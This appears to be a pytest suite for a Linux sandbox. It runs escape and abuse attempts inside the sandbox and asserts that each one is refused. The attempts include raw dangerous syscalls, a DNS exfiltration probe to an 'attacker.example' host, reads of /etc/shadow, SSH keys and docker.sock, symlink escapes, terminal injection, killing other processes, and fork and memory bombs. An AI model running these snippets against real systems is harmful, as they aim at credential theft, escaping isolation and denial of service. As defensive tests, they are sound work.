"""Programs that try to get out of their sandbox, to harm the machine, or to take what is not theirs."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from skillyard.sandbox.choose import open_sandbox
from skillyard.sandbox.model import Limits, Result, Sandbox, SandboxUnavailable, Task
from skillyard.skill.permissions import Permissions

MIB = 1024 * 1024
ALL_OF_IT = Permissions(filesystem_read=("**",), filesystem_write=("**",), subprocess=True)
# Calls by number, as a program would that brings its own library: x86_64 and aarch64.
CALLS = {
    "ptrace": (101, 117),
    "process_vm_readv": (310, 270),
    "keyctl": (250, 219),
    "add_key": (248, 217),
    "bpf": (321, 280),
    "perf_event_open": (298, 241),
    "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425),
    "mount": (165, 40),
    "umount2": (166, 39),
    "pivot_root": (155, 41),
    "chroot": (161, 51),
    "setns": (308, 268),
    "unshare": (272, 97),
    "open_by_handle_at": (304, 265),
    "name_to_handle_at": (303, 264),
    "move_mount": (429, 429),
    "pidfd_getfd": (438, 438),
    "kexec_load": (246, 104),
    "init_module": (175, 105),
    "reboot": (169, 142),
    "swapon": (167, 224),
    "sethostname": (170, 161),
    "settimeofday": (164, 170),
    "syslog": (103, 116),
}
COLUMN = 0 if os.uname().machine == "x86_64" else 1


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    opened = open_sandbox("bubblewrap", options={"warm": "0"})
    yield opened
    opened.close()


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "workspace"
    folder.mkdir()
    return folder


def python(sandbox: Sandbox, workspace: Path, code: str, **more: object) -> Result:
    limits = more.pop("limits", Limits(wall_s=20))
    task = Task(arguments=("python", "-c", code), workspace=workspace, limits=limits, **more)  # type: ignore[arg-type]
    return sandbox.run(task)


def lines(result: Result) -> list[str]:
    assert result.stderr == b"", result.stderr.decode()
    return result.stdout.decode().splitlines()


@pytest.mark.parametrize("name", CALLS)
def test_calls_that_lead_out_are_refused_and_noted(sandbox: Sandbox, workspace: Path, name: str) -> None:
    code = f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall({CALLS[name][COLUMN]}, 0, 0, 0, 0, 0), ctypes.get_errno())
"""
    result = python(sandbox, workspace, code, permissions=ALL_OF_IT)
    assert lines(result) == ["-1 1"]
    assert result.observed.other_refused == (name,)


def test_no_namespaces_within_the_namespace(sandbox: Sandbox, workspace: Path) -> None:
    clone, clone3 = ((56, 435), (220, 435))[COLUMN]
    code = f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x02000000, 0x04000000, 0x08000000, 0x80):
    print(libc.syscall({clone}, flags | 17, 0, 0, 0, 0), ctypes.get_errno())
print(libc.syscall({clone3}, 0, 0), ctypes.get_errno())
"""
    result = python(sandbox, workspace, code, permissions=ALL_OF_IT)
    assert lines(result) == ["-1 1"] * 8 + ["-1 38"]
    assert result.observed.other_refused == ("clone",)


OTHER_CONVENTIONS = {
    "x32": "import ctypes; ctypes.CDLL(None).syscall(0x40000000 + 101, 0, 0, 0, 0)",
    "i386": """
import ctypes, mmap
memory = mmap.mmap(-1, 4096, prot=7)
memory.write(bytes.fromhex('b814000000cd80c3'))
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
""",
}


@pytest.mark.parametrize("convention", OTHER_CONVENTIONS if COLUMN == 0 else [])
def test_calls_in_another_calling_convention_end_the_program(
    sandbox: Sandbox, workspace: Path, convention: str
) -> None:
    result = python(sandbox, workspace, f"{OTHER_CONVENTIONS[convention]}\nprint('alive')")
    assert result.stdout == b""
    assert result.signal in (31, 11)


def test_calls_that_are_not_known_are_not_there(sandbox: Sandbox, workspace: Path) -> None:
    code = "import ctypes; l = ctypes.CDLL(None, use_errno=True); print(l.syscall(9999), ctypes.get_errno())"
    assert lines(python(sandbox, workspace, code)) == ["-1 38"]


def test_letters_cannot_be_put_into_a_terminal(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import fcntl
for command in (0x5412, 0x541C, 0x5412 | 1 << 32):
    try:
        fcntl.ioctl(0, command if command < 1 << 32 else 0x5412, b'x')
    except OSError as error:
        print(error.errno)
"""
    result = python(sandbox, workspace, code)
    assert lines(result) == ["1", "1", "1"]
    assert result.observed.other_refused == ("ioctl",)


def test_the_network_is_empty(sandbox: Sandbox, workspace: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        code = f"""
import socket
for address in (('127.0.0.1', {port}), ('192.0.2.7', 443), ('169.254.169.254', 80)):
    try:
        socket.create_connection(address, timeout=2)
        print('connected')
    except OSError as error:
        print(error.errno)
try:
    socket.socket(socket.AF_INET6).connect(('2001:db8::1', 443))
except OSError as error:
    print(error.errno)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', {port}))
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('192.0.2.9', 9))
except OSError as error:
    print(error.errno)
print(open('/proc/net/dev').read().count(':'))
"""
        result = python(sandbox, workspace, code)
        assert lines(result) == ["111", "101", "101", "101", "101", "1"]
        assert result.observed.hosts_refused == (
            "169.254.169.254:80", "192.0.2.7:443", "192.0.2.9:9", "[2001:db8::1]:443",
        )  # fmt: skip
        assert result.observed.hosts == ()


@pytest.mark.parametrize("family", ["AF_PACKET", "AF_ALG", "AF_VSOCK", "AF_BLUETOOTH", "AF_CAN", "AF_KEY", "AF_XDP"])
def test_sockets_of_rare_kinds_cannot_be_made(sandbox: Sandbox, workspace: Path, family: str) -> None:
    number = {"AF_KEY": 15, "AF_XDP": 44, "AF_BLUETOOTH": 31}.get(family) or int(getattr(socket, family))
    code = (
        f"import socket\ntry:\n    socket.socket({number}, socket.SOCK_RAW)\nexcept OSError as e:\n    print(e.errno)"
    )
    result = python(sandbox, workspace, code)
    assert lines(result) == ["97"]
    assert result.observed.other_refused == ("socket",)


def test_nothing_leaves_by_way_of_dns_and_what_was_asked_is_known(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import socket
try:
    socket.getaddrinfo('c2VjcmV0.attacker.example', 443)
except OSError as error:
    print(error.errno)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'not a question', ('127.0.0.1', 53))
for host in ('8.8.8.8', '192.0.2.53'):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (host, 53))
    except OSError as error:
        print(error.errno)
"""
    result = python(sandbox, workspace, code)
    assert lines(result) == ["-2", "101", "101"]
    assert result.observed.hosts_refused == ("192.0.2.53:53", "8.8.8.8:53", "c2vjcmv0.attacker.example:53")


def test_abstract_sockets_of_the_machine_are_out_of_reach(sandbox: Sandbox, workspace: Path) -> None:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0skillyard-test")
        server.listen()
        code = """
import socket
try:
    socket.socket(socket.AF_UNIX).connect('\\0skillyard-test')
    print('connected')
except OSError as error:
    print(error.errno)
"""
        assert lines(python(sandbox, workspace, code)) == ["111"]


def test_other_processes_are_neither_seen_nor_reached(sandbox: Sandbox, workspace: Path) -> None:
    sleeper = subprocess.Popen(["sleep", "60"])
    try:
        code = f"""
import os, signal
print(sorted(int(name) for name in os.listdir('/proc') if name.isdigit()))
for pid in ({os.getpid()}, {sleeper.pid}, 1, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
        print('sent')
    except OSError as error:
        print(error.errno)
try:
    os.kill(-1, signal.SIGTERM)
except OSError as error:
    print(error.errno)
print(os.getpid(), os.getppid())
"""
        result = python(sandbox, workspace, code)
        seen, *answers = lines(result)
        assert seen == "[1, 2]"
        assert answers[:4] == ["3", "3", "1", "1"]
        assert answers[-1] == "2 1"
        assert "kill" in result.observed.other_refused
        assert sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()


def test_whatever_is_left_running_ends_with_the_run(sandbox: Sandbox, workspace: Path) -> None:
    mark = f"skillyard{os.getpid()}"
    code = f"""
import os, signal, subprocess, sys, time
subprocess.Popen([sys.executable, '-c', '''
import os, signal, time
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
os.setsid()
time.sleep(600)
''', '{mark}'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(0.3)
print('left')
"""
    assert lines(python(sandbox, workspace, code, permissions=ALL_OF_IT)) == ["left"]
    assert mark not in everything_that_runs()


def everything_that_runs() -> str:
    found = []
    for folder in Path("/proc").iterdir():
        try:
            found.append((folder / "cmdline").read_text())
        except OSError:
            continue
    return "\n".join(found).replace(" ".join(sys.argv), "")


@pytest.mark.parametrize(
    "path",
    [
        "/proc/1/environ", "/proc/1/root/etc/passwd", "/proc/1/mem", "/proc/kcore", "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/sys/kernel/uevent_helper", "/dev/mem",
        "/dev/sda", "/etc/shadow", "/root/.ssh/id_rsa", "/run/docker.sock", "/var/run/docker.sock",
    ],
)  # fmt: skip
def test_files_of_the_machine_cannot_be_written_or_are_not_there(sandbox: Sandbox, workspace: Path, path: str) -> None:
    code = (
        f"try:\n    open('{path}', 'r+b').write(b'1')\n    print('written')\nexcept OSError as e:\n    print('refused')"
    )
    result = python(sandbox, workspace, code, permissions=ALL_OF_IT)
    assert lines(result) == ["refused"]
    assert path in result.observed.files_refused


def test_the_files_of_the_server_are_not_there(
    sandbox: Sandbox, workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SKILLYARD_SECRET", "hunter2")
    secret = tmp_path / "server" / "secret.key"
    secret.parent.mkdir()
    secret.write_text("hunter2")
    (workspace / "way-out").symlink_to(secret)
    (workspace / "folder-out").symlink_to(secret.parent)
    code = f"""
import os, pathlib
tries = ['{secret}', '{secret.parent}/../server/secret.key', 'way-out', 'folder-out/secret.key',
         '/proc/self/root{secret}', '/proc/self/cwd/../{secret}', '/proc/{os.getpid()}/root{secret}',
         '/proc/{os.getpid()}/environ', '/proc/self/environ', '/run/host{secret}', '/run/scratch/work', '/oldroot']
for place in tries:
    try:
        print(open(place).read())
    except OSError:
        pass
for here, folders, files in os.walk('/'):
    if here.startswith(('/proc', '/usr', '/root/.pyenv')):
        folders.clear()
    for name in files:
        if name in ('secret.key', 'secret_key'):
            print(here, name)
"""
    result = python(sandbox, workspace, code, permissions=ALL_OF_IT)
    assert b"hunter2" not in result.stdout + result.stderr
    assert "secret.key" not in result.stdout.decode()
    assert {"way-out", "folder-out/secret.key", "/oldroot"} <= set(result.observed.files_refused)


def test_no_run_sees_what_another_left(sandbox: Sandbox, tmp_path: Path) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    first.mkdir()
    second.mkdir()
    leave = """
import os, pathlib
for place in ('/tmp/left', '/dev/shm/left', '/work/left', '/var/tmp/left', '/run/left', '/skill/left'):
    try:
        pathlib.Path(place).write_text('hunter2')
    except OSError:
        pass
"""
    look = """
import os
print([place for place in ('/tmp', '/dev/shm', '/work') if os.listdir(place)])
"""
    assert python(sandbox, first, leave, permissions=ALL_OF_IT).exit_code == 0
    assert lines(python(sandbox, second, look, permissions=ALL_OF_IT)) == ["[]"]


def test_only_plain_files_come_out(sandbox: Sandbox, workspace: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("untouched")
    code = f"""
import os, socket
os.symlink('{outside}', 'link')
os.symlink('{tmp_path}', 'folder')
os.symlink('/etc/passwd', 'passwd')
os.mkfifo('pipe')
socket.socket(socket.AF_UNIX).bind('socket')
for number, kind in enumerate((0o020000, 0o060000)):
    try:
        os.mknod(f'device{{number}}', 0o666 | kind, os.makedev(1, 3))
    except OSError as error:
        print(error.errno)
open(b'not-\\xff-text', 'w').close()
open('line\\nbreak', 'w').close()
os.makedirs('deep/' * 60, exist_ok=True)
open('deep/' * 60 + 'file', 'w').close()
open('plain.txt', 'w').write('kept')
os.link('plain.txt', 'second.txt')
os.chmod('plain.txt', 0o6777)
"""
    result = python(sandbox, workspace, code, permissions=ALL_OF_IT)
    assert lines(result) == ["1", "1"]
    assert sorted(path.name for path in workspace.rglob("*")) == ["plain.txt", "second.txt"]
    assert (workspace / "plain.txt").stat().st_mode & 0o7000 == 0
    assert not (workspace / "link").is_symlink()
    assert outside.read_text() == "untouched"
    assert {"link", "folder", "passwd", "pipe", "socket"} <= set(result.observed.files_refused)
    assert "mknodat" in result.observed.other_refused or "mknod" in result.observed.other_refused


def test_links_in_the_workspace_lead_nowhere_on_the_way_out(sandbox: Sandbox, workspace: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (workspace / "out").symlink_to(outside)
    (workspace / "file").symlink_to(outside / "made")
    code = """
import os
os.makedirs('out', exist_ok=True)
open('out/escaped', 'w').write('x')
open('file', 'w').write('x')
"""
    python(sandbox, workspace, code, permissions=Permissions(filesystem_write=("out/**", "file")))
    assert list(outside.iterdir()) == []


def test_a_fork_bomb_stays_small(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""
    result = python(sandbox, workspace, code, permissions=ALL_OF_IT, limits=Limits(wall_s=2, processes=20))
    assert result.exit_code is None
    assert {"wall_s", "processes"} <= set(result.limits_hit)


def test_without_the_permission_there_is_no_fork_at_all(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import os, threading
for start in (os.fork, lambda: os.posix_spawn('/bin/true', ['true'], {}), lambda: os.execv('/bin/true', ['true'])):
    try:
        start()
        print('started')
    except OSError as error:
        print(error.errno)
thread = threading.Thread(target=print, args=('a thread',))
thread.start()
thread.join()
"""
    result = python(sandbox, workspace, code)
    assert lines(result) == ["1", "1", "1", "a thread"]
    assert result.observed.programs_refused == ("/usr/bin/true", "fork") or "fork" in result.observed.programs_refused


def test_code_in_memory_does_not_become_a_program(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import os
handle = os.memfd_create('program', 0)
os.write(handle, open('/bin/true', 'rb').read())
try:
    os.execve(handle, ['true'], {})
except OSError as error:
    print(error.errno)
"""
    assert lines(python(sandbox, workspace, code)) == ["1"]


def test_a_memory_bomb_ends_itself_only(sandbox: Sandbox, workspace: Path) -> None:
    code = "held = []\nwhile True:\n    held.append(bytearray(b'x') * 10_000_000)"
    result = python(sandbox, workspace, code, limits=Limits(memory_bytes=100 * MIB, wall_s=20))
    assert result.limits_hit == ("memory_bytes",)
    assert result.peak_memory_bytes is not None
    assert result.peak_memory_bytes <= 140 * MIB  # where there is no cgroup, somewhat more


@pytest.mark.parametrize("place", ["/work", "/tmp", "/dev/shm"])
def test_a_full_disk_is_only_its_own(sandbox: Sandbox, workspace: Path, place: str) -> None:
    code = f"""
try:
    with open('{place}/big', 'wb') as file:
        while True:
            file.write(b'x' * 1_000_000)
except OSError as error:
    print(error.errno)
"""
    limits = Limits(disk_bytes=5 * MIB, memory_bytes=200 * MIB, wall_s=20)
    result = python(sandbox, workspace, code, permissions=ALL_OF_IT, limits=limits)
    assert lines(result) in (["28"], ["27"])
    assert result.limits_hit == ("disk_bytes",)
    assert list(workspace.iterdir()) == []


def test_a_file_that_only_looks_huge_is_not_copied_out(sandbox: Sandbox, workspace: Path) -> None:
    code = "import os\nfor n in range(30):\n    os.truncate(os.open(f'{n}', os.O_CREAT | os.O_RDWR), 4_000_000)"
    result = python(sandbox, workspace, code, permissions=ALL_OF_IT, limits=Limits(disk_bytes=5 * MIB))
    assert result.limits_hit == ("disk_bytes",)
    assert sum(path.stat().st_size for path in workspace.iterdir()) <= 5 * MIB


def test_endless_output_is_cut(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import os, threading

def pour(handle):
    while True:
        os.write(handle, b'x' * 4096)

threading.Thread(target=pour, args=(2,)).start()
pour(1)
"""
    result = python(sandbox, workspace, code, limits=Limits(output_bytes=50_000, wall_s=20))
    assert result.limits_hit == ("output_bytes",)
    assert max(len(result.stdout), len(result.stderr)) == 50_000


def test_calls_that_are_refused_without_end_do_not_keep_the_server_busy(sandbox: Sandbox, workspace: Path) -> None:
    code = "import ctypes\nlibc = ctypes.CDLL(None)\nwhile True: libc.syscall(101, 0, 0, 0, 0)"
    if COLUMN:
        code = code.replace("101", "117")
    used = [0.0]

    def run() -> None:
        result = python(sandbox, workspace, code, limits=Limits(wall_s=3))
        used[0] = sum(ctypes_thread_times())
        assert result.limits_hit == ("wall_s",)

    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    assert used[0] < 2.9


def ctypes_thread_times() -> tuple[float, float]:
    import resource

    usage = resource.getrusage(resource.RUSAGE_THREAD)
    return usage.ru_utime, usage.ru_stime


def test_nobody_inside_is_root_or_can_become_it(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import os, re
status = open('/proc/self/status').read()
print(re.findall('^(?:CapInh|CapPrm|CapEff|CapAmb|NoNewPrivs|Seccomp):\\t(.*)$', status, re.M))
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try:
        change()
        print('changed')
    except OSError as error:
        print(error.errno)
print(os.getuid() != 0 and os.getgroups())
"""
    result = python(sandbox, workspace, code)
    none = "0000000000000000"
    said = lines(result)
    assert said[0] == str([none, none, none, none, "1", "2"])
    assert set(said[1:4]) <= {"1", "22"}


def test_on_the_host_no_program_is_root(sandbox: Sandbox, workspace: Path) -> None:
    owners: set[int] = set()

    def look(_: object, text: bytes) -> None:
        mark = text.decode().strip()
        for folder in Path("/proc").iterdir():
            try:
                if mark in (folder / "cmdline").read_text() and folder.name != str(os.getpid()):
                    owners.add(folder.stat().st_uid)
            except (OSError, UnicodeDecodeError):
                continue

    code = "import time; print('mark' + '-of-this-run', flush=True); time.sleep(0.5)"
    python(sandbox, workspace, code + "  # mark-of-this-run", on_output=look)
    (owner,) = owners - {0}
    assert owner == os.geteuid() or (os.geteuid() == 0 and owner > 60_000)


def test_the_memory_of_the_first_process_is_out_of_reach(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import os
for name in ('mem', 'environ', 'root/etc/passwd', 'cwd/etc/passwd', 'fd/0', 'maps', 'auxv', 'stack'):
    for mode in ('rb', 'r+b'):
        try:
            open(f'/proc/1/{name}', mode).read(10)
            print(name)
        except OSError:
            pass
for place in ('/new', '/usr/new', '/etc/new', '/proc/new', '/dev/new', '/skill/new', '/run/new'):
    try:
        os.mkdir(place)
        print(place)
    except OSError:
        pass
"""
    assert lines(python(sandbox, workspace, code, permissions=ALL_OF_IT)) == []


def test_the_control_socket_is_gone_before_the_program_begins(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import os
for number in range(200):
    try:
        print(number, os.readlink(f'/proc/self/fd/{number}').split(':')[0])
    except OSError:
        pass
"""
    assert lines(python(sandbox, workspace, code)) == ["0 pipe", "1 pipe", "2 pipe"]


@pytest.mark.parametrize("arguments", [("python", "-c", "pass\0"), ("sh", "-c", "x" * 5_000_000), ("sh\0", "x")])
def test_arguments_that_no_program_can_get_are_refused(
    sandbox: Sandbox, workspace: Path, arguments: tuple[str, ...]
) -> None:
    with pytest.raises((ValueError, SandboxUnavailable)):
        sandbox.run(Task(arguments=arguments, workspace=workspace))


def test_arguments_too_long_for_the_kernel_start_nothing(sandbox: Sandbox, workspace: Path) -> None:
    result = sandbox.run(Task(arguments=("sh", "-c", "x" * 500_000), workspace=workspace))
    assert result.exit_code == 127
    assert b"too long" in result.stderr


def test_what_is_noted_stays_small(sandbox: Sandbox, workspace: Path) -> None:
    code = """
import os
for number in range(2000):
    try:
        os.open(f'/secret/{number}/' + 'x' * 1000, 0)
    except OSError:
        pass
"""
    refused = python(sandbox, workspace, code).observed.files_refused
    assert 100 <= len(refused) <= 500
    assert max(map(len, refused)) <= 500
